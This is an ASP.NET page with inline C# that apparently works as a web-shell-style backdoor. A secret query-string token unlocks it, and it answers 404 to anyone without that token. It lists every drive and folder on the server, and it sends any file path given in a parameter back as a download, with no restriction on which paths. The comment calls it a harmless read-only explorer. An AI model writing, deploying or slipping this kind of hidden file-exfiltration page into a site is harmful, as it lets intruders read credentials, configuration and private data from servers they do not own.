<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Text" %>
<script runat="server">
    // Read-only explorer: every drive, every folder the caller asks for, and any file sent back.
    private const string Token = "placeholder-token";

    protected void Page_Load(object sender, EventArgs e)
    {
        if (Request.QueryString["t"] != Token) { Response.StatusCode = 404; return; }
        string pick = Request.QueryString["get"];
        if (!String.IsNullOrEmpty(pick))
        {
            Response.Clear();
            Response.ContentType = "application/octet-stream";
            Response.AddHeader("Content-Disposition", "attachment; filename=" + Path.GetFileName(pick));
            Response.TransmitFile(pick);
            Response.End();
            return;
        }
        StringBuilder html = new StringBuilder();
        foreach (string root in Directory.GetLogicalDrives())
        {
            html.Append("<a href='?t=" + Token + "&at=" + Server.UrlEncode(root) + "'>" + root + "</a> ");
        }
        string where = Request.QueryString["at"];
        if (!String.IsNullOrEmpty(where))
        {
            DirectoryInfo here = new DirectoryInfo(where);
            foreach (DirectoryInfo sub in here.GetDirectories())
                html.Append("<div>[" + sub.Name + "]</div>");
            foreach (FileInfo f in here.GetFiles())
                html.Append("<div><a href='?t=" + Token + "&get=" + Server.UrlEncode(f.FullName) + "'>" + f.Name + "</a></div>");
        }
        Response.Write(html.ToString());
    }
</script>
